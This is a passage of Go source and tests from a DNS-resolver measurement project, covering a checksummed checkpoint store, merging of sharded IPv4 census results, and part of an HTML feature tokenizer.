		os.Remove(tmp)
		return fmt.Errorf("checkpoint: publish generation %d: %w", next, err)
	}
	s.gen = next
	s.syncDir()
	s.prune()
	return nil
}

// syncDir fsyncs the store directory so a just-renamed generation's
// directory entry is durable. Failure is survivable (the data file
// itself is synced; at worst a crash loses the newest name and resumes
// from the previous generation), so it is not propagated.
func (s *Store) syncDir() {
	d, err := os.Open(s.dir)
	if err != nil {
		return
	}
	d.Sync()
	//lint:allow fsynccheck read-only directory handle; nothing buffered to lose
	d.Close()
}

// prune removes all but the newest keepGenerations snapshot files.
func (s *Store) prune() {
	gens, err := s.generations()
	if err != nil {
		return
	}
	for len(gens) > keepGenerations {
		os.Remove(s.genPath(gens[0]))
		gens = gens[1:]
	}
}

// Load returns the newest decodable snapshot, or nil when the store
// holds none. Torn or corrupt generations are skipped with a
// diagnostic (returned, not printed — the caller owns stderr); only an
// I/O failure listing the directory is an error.
func (s *Store) Load() (*State, []string, error) {
	gens, err := s.generations()
	if err != nil {
		return nil, nil, err
	}
	var diags []string
	for i := len(gens) - 1; i >= 0; i-- {
		path := s.genPath(gens[i])
		blob, err := os.ReadFile(path)
		if err != nil {
			diags = append(diags, fmt.Sprintf("%s: %v", path, err))
			continue
		}
		payload, err := Decode(blob)
		if err != nil {
			diags = append(diags, fmt.Sprintf("%s: %v; falling back to previous generation", path, err))
			continue
		}
		st := new(State)
		if err := json.Unmarshal(payload, st); err != nil {
			diags = append(diags, fmt.Sprintf("%s: decode state: %v; falling back to previous generation", path, err))
			continue
		}
		if st.Version != Version {
			diags = append(diags, fmt.Sprintf("%s: schema version %d, want %d; ignoring", path, st.Version, Version))
			continue
		}
		return st, diags, nil
	}
	return nil, diags, nil
}

// Clear removes every snapshot generation — a fresh (non-resume) run
// must not leave stale state behind for a later -resume to trip over.
func (s *Store) Clear() error {
	gens, err := s.generations()
	if err != nil {
		return err
	}
	for _, g := range gens {
		if err := os.Remove(s.genPath(g)); err != nil {
			return fmt.Errorf("checkpoint: %w", err)
		}
	}
	s.gen = 0
	return nil
}
