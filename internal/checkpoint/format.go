// Package checkpoint implements crash-safe run state: a versioned,
// checksummed on-disk snapshot format written atomically (temp file +
// fsync + rename), a generational store that falls back past torn or
// corrupt files to the last good snapshot, and a section journal that
// lets the report commands resume an interrupted run and still print
// byte-identical output.
//
// The package is deliberately a leaf: it knows nothing about scans or
// studies. Callers store their resumable state as named JSON documents
// inside a State and decide what those documents mean.
package checkpoint

import (
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
)

// The envelope layout is fixed:
//
//	magic (8 bytes) | payload length (uint32 BE) | payload | SHA-256(payload)
//
// The trailing checksum covers only the payload, so a torn write — a
// crash between the temp-file write and the fsync — is detected either
// by the length field (short file) or by the digest (bit rot, partial
// page). Decode never guesses: anything that is not a complete,
// checksum-clean envelope is an error, and the store falls back to the
// previous generation.

// magic identifies a checkpoint envelope; the trailing digit is the
// envelope format version (bump it for incompatible layout changes).
const magic = "GWCKPT1\n"

const (
	headerLen = len(magic) + 4
	sumLen    = sha256.Size
)

// ErrCorrupt wraps every decoding failure, so callers can distinguish
// "file is damaged" from I/O errors with errors.Is.
var ErrCorrupt = errors.New("checkpoint: corrupt envelope")

// Encode wraps payload in the checksummed envelope.
func Encode(payload []byte) []byte {
	out := make([]byte, 0, headerLen+len(payload)+sumLen)
	out = append(out, magic...)
	out = binary.BigEndian.AppendUint32(out, uint32(len(payload)))
	out = append(out, payload...)
	sum := sha256.Sum256(payload)
	return append(out, sum[:]...)
}

// Decode validates an envelope and returns its payload. Every failure
// mode — truncation, bad magic, length mismatch, checksum mismatch,
// trailing garbage — is reported as an error wrapping ErrCorrupt;
// Decode never panics and never returns unverified bytes.
func Decode(b []byte) ([]byte, error) {
	if len(b) < headerLen+sumLen {
		return nil, fmt.Errorf("%w: %d bytes is shorter than an empty envelope", ErrCorrupt, len(b))
	}
	if string(b[:len(magic)]) != magic {
		return nil, fmt.Errorf("%w: bad magic %q", ErrCorrupt, b[:len(magic)])
	}
	n := binary.BigEndian.Uint32(b[len(magic):headerLen])
	rest := b[headerLen:]
	if uint64(n) != uint64(len(rest)-sumLen) {
		return nil, fmt.Errorf("%w: header claims %d payload bytes, file carries %d", ErrCorrupt, n, len(rest)-sumLen)
	}
	payload, sum := rest[:n], rest[n:]
	want := sha256.Sum256(payload)
	for i := range want {
		if sum[i] != want[i] {
			return nil, fmt.Errorf("%w: checksum mismatch", ErrCorrupt)
		}
	}
	return payload, nil
}
