package checkpoint

import (
	"bytes"
	"testing"
)

// FuzzCheckpointDecode feeds arbitrary bytes through the envelope
// decoder. The contract under fuzzing: never panic, never return a
// payload from an input whose checksum does not verify, and round-trip
// any payload we encode ourselves.
func FuzzCheckpointDecode(f *testing.F) {
	f.Add([]byte{})
	f.Add([]byte(magic))
	f.Add(Encode(nil))
	f.Add(Encode([]byte(`{"version":1,"sections":[{"name":"a","output":"x\n"}]}`)))
	bad := Encode([]byte("payload"))
	bad[len(bad)-1] ^= 0xff
	f.Add(bad)
	f.Fuzz(func(t *testing.T, data []byte) {
		payload, err := Decode(data)
		if err != nil {
			if payload != nil {
				t.Fatalf("Decode returned both payload and error %v", err)
			}
			return
		}
		// A successful decode means data IS a well-formed envelope:
		// re-encoding the payload must reproduce it exactly.
		if re := Encode(payload); !bytes.Equal(re, data) {
			t.Fatalf("Decode accepted %d bytes that Encode(payload) does not reproduce", len(data))
		}
	})
}
