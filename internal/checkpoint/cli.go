package checkpoint

import (
	"fmt"
	"io"
)

// OpenRun wires the -checkpoint/-resume command-line contract into a
// Runner. A fresh run (resume=false) clears any stale generations so a
// later -resume cannot trip over another invocation's state. A resume
// loads the newest decodable generation — torn or corrupt files fall
// back to the previous one with a diagnostic on warn — and insists the
// saved fingerprint (the output-affecting flags of the original run)
// matches this invocation's; resuming under different flags would
// silently splice two different studies together. A resume that finds
// no usable checkpoint starts fresh with a note rather than failing:
// the caller asked for "continue if possible", and an empty directory
// is the degenerate case of that.
func OpenRun(dir string, resume bool, fingerprint string, out, warn io.Writer) (*Runner, error) {
	store, err := Open(dir)
	if err != nil {
		return nil, err
	}
	if !resume {
		if err := store.Clear(); err != nil {
			return nil, err
		}
		return NewRunner(store, NewState(fingerprint), out), nil
	}
	st, diags, err := store.Load()
	for _, d := range diags {
		fmt.Fprintln(warn, "checkpoint:", d)
	}
	if err != nil {
		return nil, err
	}
	if st == nil {
		fmt.Fprintf(warn, "checkpoint: nothing to resume in %s; starting fresh\n", dir)
		st = NewState(fingerprint)
	} else if st.Fingerprint != fingerprint {
		return nil, fmt.Errorf("checkpoint: flag mismatch: saved run was %q, this invocation is %q (resume with matching flags or use a fresh -checkpoint dir)", st.Fingerprint, fingerprint)
	}
	return NewRunner(store, st, out), nil
}
