package checkpoint

import (
	"bytes"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestEncodeDecodeRoundTrip(t *testing.T) {
	for _, payload := range [][]byte{nil, {}, []byte("x"), bytes.Repeat([]byte("checkpoint"), 1000)} {
		blob := Encode(payload)
		got, err := Decode(blob)
		if err != nil {
			t.Fatalf("Decode(Encode(%d bytes)): %v", len(payload), err)
		}
		if !bytes.Equal(got, payload) {
			t.Fatalf("round trip mangled payload: got %d bytes, want %d", len(got), len(payload))
		}
	}
}

func TestDecodeRejectsEveryTruncation(t *testing.T) {
	blob := Encode([]byte(`{"version":1}`))
	for n := 0; n < len(blob); n++ {
		if _, err := Decode(blob[:n]); !errors.Is(err, ErrCorrupt) {
			t.Fatalf("Decode of %d/%d-byte truncation: err = %v, want ErrCorrupt", n, len(blob), err)
		}
	}
}

func TestDecodeRejectsBitFlips(t *testing.T) {
	blob := Encode([]byte(`{"version":1,"fingerprint":"abc"}`))
	for i := range blob {
		bad := bytes.Clone(blob)
		bad[i] ^= 0x40
		if _, err := Decode(bad); !errors.Is(err, ErrCorrupt) {
			t.Fatalf("Decode with byte %d flipped: err = %v, want ErrCorrupt", i, err)
		}
	}
}

func TestStoreKeepsTwoGenerationsAndLoadsNewest(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	for i := 1; i <= 3; i++ {
		st := NewState("fp")
		if err := st.Put("n", i); err != nil {
			t.Fatal(err)
		}
		if err := s.Save(st); err != nil {
			t.Fatalf("Save %d: %v", i, err)
		}
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != keepGenerations {
		t.Fatalf("store holds %d files after pruning, want %d", len(entries), keepGenerations)
	}
	got, diags, err := s.Load()
	if err != nil || got == nil {
		t.Fatalf("Load: %v (state %v)", err, got)
	}
	if len(diags) != 0 {
		t.Fatalf("unexpected diagnostics: %v", diags)
	}
	var n int
	if ok, err := got.Get("n", &n); !ok || err != nil || n != 3 {
		t.Fatalf("loaded generation carries n=%d (ok=%v err=%v), want 3", n, ok, err)
	}
}

func TestStoreFallsBackPastTornGeneration(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	for i := 1; i <= 2; i++ {
		st := NewState("fp")
		if err := st.Put("n", i); err != nil {
			t.Fatal(err)
		}
		if err := s.Save(st); err != nil {
			t.Fatal(err)
		}
	}
	// Tear the newest generation mid-file, as a crash between write and
	// fsync would.
	newest := s.genPath(s.gen)
	blob, err := os.ReadFile(newest)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(newest, blob[:len(blob)/2], 0o644); err != nil {
		t.Fatal(err)
	}
	got, diags, err := s.Load()
	if err != nil || got == nil {
		t.Fatalf("Load after tear: %v (state %v)", err, got)
	}
	if len(diags) == 0 || !strings.Contains(diags[0], "falling back") {
		t.Fatalf("expected a fallback diagnostic, got %v", diags)
	}
	var n int
	if ok, _ := got.Get("n", &n); !ok || n != 1 {
		t.Fatalf("fallback loaded n=%d, want 1 (previous generation)", n)
	}
}

func TestStoreLoadEmpty(t *testing.T) {
	s, err := Open(filepath.Join(t.TempDir(), "fresh"))
	if err != nil {
		t.Fatal(err)
	}
	st, diags, err := s.Load()
	if st != nil || err != nil || len(diags) != 0 {
		t.Fatalf("empty store Load = (%v, %v, %v), want (nil, none, nil)", st, diags, err)
	}
}

func TestStoreClear(t *testing.T) {
	s, err := Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Save(NewState("fp")); err != nil {
		t.Fatal(err)
	}
	if err := s.Clear(); err != nil {
		t.Fatal(err)
	}
	if st, _, _ := s.Load(); st != nil {
		t.Fatalf("state survived Clear: %+v", st)
	}
}

// TestRunnerSectionReplay simulates a crash between two sections: a
// second runner loaded from the saved state must replay the first
// section's bytes verbatim and run only the missing one.
func TestRunnerSectionReplay(t *testing.T) {
	dir := t.TempDir()
	store, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	var first bytes.Buffer
	r := NewRunner(store, NewState("fp"), &first)
	ran := 0
	run := func(r *Runner, name, text string) {
		t.Helper()
		if err := r.Section(name, func(w io.Writer) error {
			ran++
			_, err := io.WriteString(w, text)
			return err
		}); err != nil {
			t.Fatalf("section %s: %v", name, err)
		}
	}
	run(r, "a", "alpha\n")
	// Crash here: section b never runs. Resume from disk.
	st, _, err := store.Load()
	if err != nil || st == nil {
		t.Fatalf("Load: %v", err)
	}
	var resumed bytes.Buffer
	r2 := NewRunner(store, st, &resumed)
	run(r2, "a", "WRONG — must come from the journal\n")
	run(r2, "b", "beta\n")
	if got, want := resumed.String(), "alpha\nbeta\n"; got != want {
		t.Fatalf("resumed output %q, want %q", got, want)
	}
	if ran != 2 {
		t.Fatalf("section bodies ran %d times, want 2 (journaled section must not re-run)", ran)
	}
}

func TestRunnerStopBetweenSections(t *testing.T) {
	store, err := Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	r := NewRunner(store, NewState("fp"), &out)
	r.RequestStop()
	err = r.Section("a", func(w io.Writer) error { return nil })
	if !errors.Is(err, ErrStopped) {
		t.Fatalf("Section under stop request: %v, want ErrStopped", err)
	}
	if err := r.CheckStop(); !errors.Is(err, ErrStopped) {
		t.Fatalf("CheckStop: %v, want ErrStopped", err)
	}
}
