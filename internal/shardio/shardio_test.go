package shardio

import (
	"bytes"
	"errors"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"goingwild/internal/dnswire"
	"goingwild/internal/scanner"
)

var prov = Provenance{Order: 16, Seed: 0x60176A11D, ScanSeed: 0x5EED, Week: 3}

func shardResult(addrs ...uint32) *scanner.SweepResult {
	res := &scanner.SweepResult{Probed: uint64(len(addrs)) * 10, ByRCode: map[dnswire.RCode]int{}}
	for _, a := range addrs {
		r := scanner.Responder{Addr: a, Source: a, RCode: dnswire.RCodeNoError, Answered: true}
		if a%3 == 0 {
			r.RCode = dnswire.RCodeRefused
			r.Answered = false
			r.Source = a + 1
		}
		res.Responders = append(res.Responders, r)
		res.ByRCode[r.RCode]++
	}
	return res
}

func TestArtifactRoundTrip(t *testing.T) {
	a := FromSweep(prov, 1, 4, shardResult(5, 9, 0x01020304))
	var buf bytes.Buffer
	if err := Write(&buf, a); err != nil {
		t.Fatal(err)
	}
	got, err := Read(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, a) {
		t.Errorf("round trip changed artifact:\n got %+v\nwant %+v", got, a)
	}
}

func TestMergeRebuildsSweep(t *testing.T) {
	// Interleaved addresses across three shards; the merged result must
	// come back sorted with the histogram and probed count rebuilt.
	arts := []Artifact{
		FromSweep(prov, 2, 3, shardResult(2, 300, 12)),
		FromSweep(prov, 0, 3, shardResult(7, 100)),
		FromSweep(prov, 1, 3, shardResult(1, 0xFFFFFFFF)),
	}
	res, p, err := Merge(arts)
	if err != nil {
		t.Fatal(err)
	}
	if p != prov {
		t.Errorf("provenance %+v, want %+v", p, prov)
	}
	if res.Probed != 70 {
		t.Errorf("probed %d, want 70", res.Probed)
	}
	want := []uint32{1, 2, 7, 12, 100, 300, 0xFFFFFFFF}
	if len(res.Responders) != len(want) {
		t.Fatalf("merged %d responders, want %d", len(res.Responders), len(want))
	}
	for i, r := range res.Responders {
		if r.Addr != want[i] {
			t.Errorf("responder %d is %d, want %d (sorted)", i, r.Addr, want[i])
		}
	}
	if res.ByRCode[dnswire.RCodeRefused] != 3 || res.ByRCode[dnswire.RCodeNoError] != 4 {
		t.Errorf("histogram %v", res.ByRCode)
	}
}

func TestMergeRejectsIncoherentSets(t *testing.T) {
	ok := func(i int) Artifact { return FromSweep(prov, i, 2, shardResult(uint32(i+1))) }
	cases := []struct {
		name string
		arts []Artifact
		want string
	}{
		{"empty", nil, "no artifacts"},
		{"missing shard", []Artifact{ok(0)}, "got 1 artifacts"},
		{"duplicate shard", []Artifact{ok(0), ok(0)}, "supplied twice"},
		{"mixed provenance", []Artifact{ok(0), FromSweep(Provenance{Order: 18, Seed: prov.Seed, ScanSeed: prov.ScanSeed, Week: prov.Week}, 1, 2, shardResult(2))}, "different scan"},
		{"duplicate target", []Artifact{ok(0), FromSweep(prov, 1, 2, shardResult(1))}, "two shards"},
	}
	for _, tc := range cases {
		if _, _, err := Merge(tc.arts); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: err = %v, want substring %q", tc.name, err, tc.want)
		}
	}
}

func TestReadRejectsBadShardRange(t *testing.T) {
	a := FromSweep(prov, 0, 1, shardResult(1))
	a.Shard, a.Of = 4, 4
	var buf bytes.Buffer
	if err := Write(&buf, a); err != nil {
		t.Fatal(err)
	}
	if _, err := Read(&buf); err == nil {
		t.Error("artifact with shard == of accepted")
	}
}

func TestFileRoundTripAndRenderStability(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "s0.json")
	a := FromSweep(prov, 0, 1, shardResult(3, 4, 5))
	if err := WriteFile(path, a); err != nil {
		t.Fatal(err)
	}
	got, err := ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, a) {
		t.Errorf("file round trip changed artifact")
	}
	res, _, err := Merge([]Artifact{got})
	if err != nil {
		t.Fatal(err)
	}
	// The census render must not leak shard structure: a 1/1 merge and
	// the original result render identically.
	if RenderCensus(res) != RenderCensus(shardResult(3, 4, 5)) {
		t.Errorf("render differs between merged and direct result:\n%s\nvs\n%s",
			RenderCensus(res), RenderCensus(shardResult(3, 4, 5)))
	}
	if strings.Contains(RenderCensus(res), "shard") {
		t.Error("census render mentions shards")
	}
}

// TestReadDiagnosesTruncation pins the corrupt-artifact contract: every
// strict prefix of a valid artifact fails with ErrCorrupt (never a
// silent partial decode, never a panic), and mid-file truncations name
// the byte offset so the operator knows the copy — not the scan — is
// broken.
func TestReadDiagnosesTruncation(t *testing.T) {
	a := FromSweep(prov, 0, 2, shardResult(5, 9, 12, 0x01020304))
	var buf bytes.Buffer
	if err := Write(&buf, a); err != nil {
		t.Fatal(err)
	}
	whole := buf.Bytes()
	for cut := 0; cut < len(whole)-1; cut++ {
		_, err := Read(bytes.NewReader(whole[:cut]))
		if err == nil {
			t.Fatalf("truncation at byte %d/%d decoded cleanly", cut, len(whole))
		}
		if !errors.Is(err, ErrCorrupt) {
			t.Fatalf("truncation at byte %d: error %v does not wrap ErrCorrupt", cut, err)
		}
		if cut > 0 && !strings.Contains(err.Error(), "byte") {
			t.Fatalf("truncation at byte %d: diagnostic %q names no offset", cut, err)
		}
	}
}

// TestReadDiagnosesGarbage covers non-truncation corruption: a flipped
// byte that breaks JSON syntax, and a type-level mismatch, both with
// offsets and ErrCorrupt.
func TestReadDiagnosesGarbage(t *testing.T) {
	if _, err := Read(strings.NewReader(`{"order": 16, "of": }`)); !errors.Is(err, ErrCorrupt) || !strings.Contains(err.Error(), "byte") {
		t.Errorf("syntax corruption: %v", err)
	}
	if _, err := Read(strings.NewReader(`{"order": "sixteen", "shard": 0, "of": 1}`)); !errors.Is(err, ErrCorrupt) {
		t.Errorf("type corruption: %v", err)
	}
}
