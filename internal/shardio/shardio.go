// Package shardio serializes per-shard census results so an
// Internet-wide sweep can be split across processes (or machines) and
// recombined losslessly: each scan process runs `goingwild -shard i/M
// -shard-out f.json`, and cmd/wildmerge folds the M artifacts back into
// the exact result — and the exact rendered report — a single
// unsharded sweep of the same (order, seed) produces.
//
// The merge is only sound because of the scanner's sharding contract:
// leapfrog shards partition the target permutation, every probe is
// bit-identical to the unsharded sweep's probe for the same target, and
// responders are attributed to probed targets. So shard artifacts are
// disjoint by construction, and merging is concatenation + the same
// sort the unsharded collector applies — no reconciliation policy.
package shardio

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"sort"

	"goingwild/internal/dnswire"
	"goingwild/internal/lfsr"
	"goingwild/internal/scanner"
)

// Artifact is one shard's sweep result plus the provenance needed to
// verify that a set of artifacts belongs to the same logical scan.
type Artifact struct {
	Order    uint   `json:"order"`
	Seed     uint64 `json:"seed"`
	ScanSeed uint32 `json:"scan_seed"`
	Week     int    `json:"week"`
	Shard    int    `json:"shard"`
	Of       int    `json:"of"`
	Probed   uint64 `json:"probed"`
	// Responders holds this shard's responders sorted by address (the
	// order scanner.SweepResult guarantees).
	Responders []Responder `json:"responders"`
}

// Responder mirrors scanner.Responder in dotted-quad form. RCode is
// kept numeric so every value — including codes the renderer has no
// name for — round-trips exactly.
type Responder struct {
	Addr     string `json:"addr"`
	Source   string `json:"source"`
	RCode    uint8  `json:"rcode"`
	Answered bool   `json:"answered,omitempty"`
}

// Provenance identifies the logical scan an artifact belongs to.
type Provenance struct {
	Order    uint
	Seed     uint64
	ScanSeed uint32
	Week     int
}

// FromSweep wraps one shard's sweep result as an artifact.
func FromSweep(p Provenance, shard, of int, res *scanner.SweepResult) Artifact {
	a := Artifact{
		Order: p.Order, Seed: p.Seed, ScanSeed: p.ScanSeed, Week: p.Week,
		Shard: shard, Of: of, Probed: res.Probed,
		Responders: make([]Responder, 0, len(res.Responders)),
	}
	for _, r := range res.Responders {
		a.Responders = append(a.Responders, Responder{
			Addr:     lfsr.U32ToAddr(r.Addr).String(),
			Source:   lfsr.U32ToAddr(r.Source).String(),
			RCode:    uint8(r.RCode),
			Answered: r.Answered,
		})
	}
	return a
}

// Write serializes an artifact as indented JSON (one document, not
// JSONL: an artifact is a unit, merged or rejected as a whole).
func Write(w io.Writer, a Artifact) error {
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(a)
}

// WriteFile writes an artifact to path.
func WriteFile(path string, a Artifact) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := Write(f, a); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// ErrCorrupt marks an artifact whose bytes cannot be decoded — a
// truncated copy, a torn write, or garbage. Callers (cmd/wildmerge)
// distinguish it from semantic merge failures with errors.Is and map it
// to its own exit status, because the fix is different: re-transfer or
// re-run the shard, don't debug the scan.
var ErrCorrupt = errors.New("unreadable shard artifact")

// Read parses one artifact. A short or corrupt document is diagnosed
// with the byte offset where decoding failed and wrapped in ErrCorrupt,
// so a half-copied artifact names itself instead of surfacing as a
// vague unmarshal error.
func Read(r io.Reader) (Artifact, error) {
	var a Artifact
	dec := json.NewDecoder(r)
	if err := dec.Decode(&a); err != nil {
		var syn *json.SyntaxError
		var typ *json.UnmarshalTypeError
		switch {
		case errors.Is(err, io.EOF):
			return Artifact{}, fmt.Errorf("shardio: empty artifact (no JSON document): %w", ErrCorrupt)
		case errors.Is(err, io.ErrUnexpectedEOF):
			return Artifact{}, fmt.Errorf("shardio: artifact truncated at byte %d: %w", dec.InputOffset(), ErrCorrupt)
		case errors.As(err, &syn):
			return Artifact{}, fmt.Errorf("shardio: corrupt artifact at byte %d: %v: %w", syn.Offset, err, ErrCorrupt)
		case errors.As(err, &typ):
			return Artifact{}, fmt.Errorf("shardio: corrupt artifact at byte %d: field %q: %v: %w", typ.Offset, typ.Field, err, ErrCorrupt)
		}
		return Artifact{}, fmt.Errorf("shardio: %w", err)
	}
	if a.Of < 1 || a.Shard < 0 || a.Shard >= a.Of {
		return Artifact{}, fmt.Errorf("shardio: artifact shard %d/%d out of range", a.Shard, a.Of)
	}
	return a, nil
}

// ReadFile reads an artifact from path.
func ReadFile(path string) (Artifact, error) {
	f, err := os.Open(path)
	if err != nil {
		return Artifact{}, err
	}
	defer f.Close()
	a, err := Read(f)
	if err != nil {
		return Artifact{}, fmt.Errorf("%s: %w", path, err)
	}
	return a, nil
}

// Merge recombines a complete artifact set into the sweep result the
// unsharded scan would have produced. It refuses mixed provenance,
// missing or duplicate shards, and targets claimed by more than one
// shard — each of those means the artifacts do not come from one
// coherent sharded scan.
func Merge(arts []Artifact) (*scanner.SweepResult, Provenance, error) {
	if len(arts) == 0 {
		return nil, Provenance{}, fmt.Errorf("shardio: no artifacts to merge")
	}
	p := Provenance{Order: arts[0].Order, Seed: arts[0].Seed, ScanSeed: arts[0].ScanSeed, Week: arts[0].Week}
	of := arts[0].Of
	if len(arts) != of {
		return nil, p, fmt.Errorf("shardio: scan has %d shards, got %d artifacts", of, len(arts))
	}
	seen := make([]bool, of)
	parts := make([]*scanner.SweepResult, 0, of)
	for _, a := range arts {
		if (Provenance{Order: a.Order, Seed: a.Seed, ScanSeed: a.ScanSeed, Week: a.Week}) != p || a.Of != of {
			return nil, p, fmt.Errorf("shardio: shard %d/%d is from a different scan (order %d seed %#x scan-seed %#x week %d)",
				a.Shard, a.Of, a.Order, a.Seed, a.ScanSeed, a.Week)
		}
		if seen[a.Shard] {
			return nil, p, fmt.Errorf("shardio: shard %d/%d supplied twice", a.Shard, of)
		}
		seen[a.Shard] = true
		part := &scanner.SweepResult{Probed: a.Probed, Responders: make([]scanner.Responder, 0, len(a.Responders))}
		for _, r := range a.Responders {
			addr, err := parseIP4(r.Addr)
			if err != nil {
				return nil, p, err
			}
			src, err := parseIP4(r.Source)
			if err != nil {
				return nil, p, err
			}
			part.Responders = append(part.Responders, scanner.Responder{
				Addr: addr, Source: src, RCode: dnswire.RCode(r.RCode), Answered: r.Answered,
			})
		}
		parts = append(parts, part)
	}
	for i, ok := range seen {
		if !ok {
			return nil, p, fmt.Errorf("shardio: shard %d/%d missing", i, of)
		}
	}
	// The deterministic shard-collector combine: concatenation plus the
	// same sort the unsharded collector applies, so downstream renderings
	// are byte-identical. A duplicate target means the artifacts do not
	// come from one coherent sharded scan.
	res, err := scanner.MergeSweepResults(parts)
	if err != nil {
		return nil, p, fmt.Errorf("shardio: target reported by two shards: %w", err)
	}
	return res, p, nil
}

func parseIP4(s string) (uint32, error) {
	var a, b, c, d int
	if _, err := fmt.Sscanf(s, "%d.%d.%d.%d", &a, &b, &c, &d); err != nil {
		return 0, fmt.Errorf("shardio: bad address %q: %w", s, err)
	}
	if a|b|c|d < 0 || a > 255 || b > 255 || c > 255 || d > 255 {
		return 0, fmt.Errorf("shardio: bad address %q", s)
	}
	return uint32(a)<<24 | uint32(b)<<16 | uint32(c)<<8 | uint32(d), nil
}

// RenderCensus renders one sweep as the census report both
// cmd/wildmerge and `goingwild -exp census` print. It deliberately
// carries no trace of how many shards produced the result: a merged
// M-shard census must be byte-identical to the single-process one.
func RenderCensus(res *scanner.SweepResult) string {
	out := "IPv4 scan census\n"
	out += fmt.Sprintf("  probed       %d\n", res.Probed)
	out += fmt.Sprintf("  responders   %d\n", res.Total())
	out += fmt.Sprintf("  noerror      %d\n", res.ByRCode[dnswire.RCodeNoError])
	out += fmt.Sprintf("  mis-sourced  %d\n", res.MisSourcedCount())
	rcodes := make([]int, 0, len(res.ByRCode))
	for rc := range res.ByRCode {
		rcodes = append(rcodes, int(rc))
	}
	sort.Ints(rcodes)
	for _, rc := range rcodes {
		out += fmt.Sprintf("    %-10s %d\n", dnswire.RCode(rc).String(), res.ByRCode[dnswire.RCode(rc)])
	}
	return out
}
