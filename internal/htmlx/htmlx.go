// Package htmlx is a small, dependency-free HTML tokenizer that extracts
// exactly the features the clustering distance of §3.6 consumes: the
// sequence and multiset of opening tags, the <title> text, all JavaScript
// bodies, and the sets of embedded resources (src attributes) and
// outgoing links (href attributes).
//
// The tokenizer is forgiving by design — it processes whatever bogus
// resolvers and broken CPE web servers return — and never allocates
// proportionally to nesting depth.
package htmlx

import (
	"strings"
)

// Features are the extracted page properties.
type Features struct {
	// BodyLen is the byte length of the raw payload.
	BodyLen int
	// TagSeq is the sequence of opening tag names in document order,
	// lower-cased.
	TagSeq []string
	// TagSet is the multiset of opening tag names.
	TagSet map[string]int
	// Title is the text inside the first <title> element.
	Title string
	// Scripts concatenates all inline script bodies.
	Scripts string
	// Srcs collects the values of src attributes (embedded resources).
	Srcs []string
	// Hrefs collects the values of href attributes (outgoing links).
	Hrefs []string
}

// Extract tokenizes an HTML payload.
func Extract(body string) *Features {
	f := &Features{BodyLen: len(body), TagSet: make(map[string]int)}
	i := 0
	n := len(body)
	for i < n {
		lt := strings.IndexByte(body[i:], '<')
		if lt < 0 {
			break
		}
		i += lt
		// Comments.
		if strings.HasPrefix(body[i:], "<!--") {
			end := strings.Index(body[i+4:], "-->")
			if end < 0 {
				break
			}
			i += 4 + end + 3
			continue
		}
		// Doctype and processing instructions.
		if strings.HasPrefix(body[i:], "<!") || strings.HasPrefix(body[i:], "<?") {
			gt := strings.IndexByte(body[i:], '>')
			if gt < 0 {
				break
			}
			i += gt + 1
			continue
		}
		// Closing tags.
		if strings.HasPrefix(body[i:], "</") {
			gt := strings.IndexByte(body[i:], '>')
			if gt < 0 {
				break
			}
			i += gt + 1
			continue
		}
		// Opening tag.
		end := findTagEnd(body, i)
		if end < 0 {
			break
		}
		tag := body[i+1 : end]
		name, attrs := splitTag(tag)
		if name == "" {
			i = end + 1
			continue
		}
		f.TagSeq = append(f.TagSeq, name)
		f.TagSet[name]++
		if v, ok := attrValue(attrs, "src"); ok {
			f.Srcs = append(f.Srcs, v)
		}
		if v, ok := attrValue(attrs, "href"); ok {
			f.Hrefs = append(f.Hrefs, v)
		}
		i = end + 1
		switch name {
		case "title":
			text, next := readUntilClose(body, i, "title")
			if f.Title == "" {
				f.Title = strings.TrimSpace(text)
			}
			i = next
		case "script":
			text, next := readUntilClose(body, i, "script")
			f.Scripts += text
			i = next
		}
	}
	return f
}

// findTagEnd locates the '>' closing the tag that starts at i, respecting
// quoted attribute values.
func findTagEnd(body string, i int) int {
	inQuote := byte(0)
	for j := i + 1; j < len(body); j++ {
		c := body[j]
		switch {
		case inQuote != 0:
			if c == inQuote {
				inQuote = 0
			}
		case c == '"' || c == '\'':
			inQuote = c
		case c == '>':
			return j
		}
	}
	return -1
}

// splitTag separates a tag's name from its attribute text.
func splitTag(tag string) (name, attrs string) {
	tag = strings.TrimSuffix(strings.TrimSpace(tag), "/")
	if tag == "" {
		return "", ""
	}
	end := len(tag)
	for k := 0; k < len(tag); k++ {
		c := tag[k]
		if c == ' ' || c == '\t' || c == '\n' || c == '\r' {
			end = k
			break
		}
	}
	name = strings.ToLower(tag[:end])
	for _, c := range name {
		if !(c >= 'a' && c <= 'z' || c >= '0' && c <= '9' || c == '-') {
			return "", ""
		}
	}
	return name, tag[end:]
}

// attrValue extracts a named attribute's value from attribute text.
func attrValue(attrs, name string) (string, bool) {
	lower := strings.ToLower(attrs)
	idx := 0
	for {
		k := strings.Index(lower[idx:], name)
		if k < 0 {
			return "", false
		}
		k += idx
		// Must be a standalone attribute name.
		if k > 0 {
			prev := lower[k-1]
			if prev != ' ' && prev != '\t' && prev != '\n' && prev != '"' && prev != '\'' {
				idx = k + len(name)
				continue
			}
		}
		rest := strings.TrimLeft(attrs[k+len(name):], " \t")
		if !strings.HasPrefix(rest, "=") {
			idx = k + len(name)
			continue
		}
		rest = strings.TrimLeft(rest[1:], " \t")
		if rest == "" {
			return "", true
		}
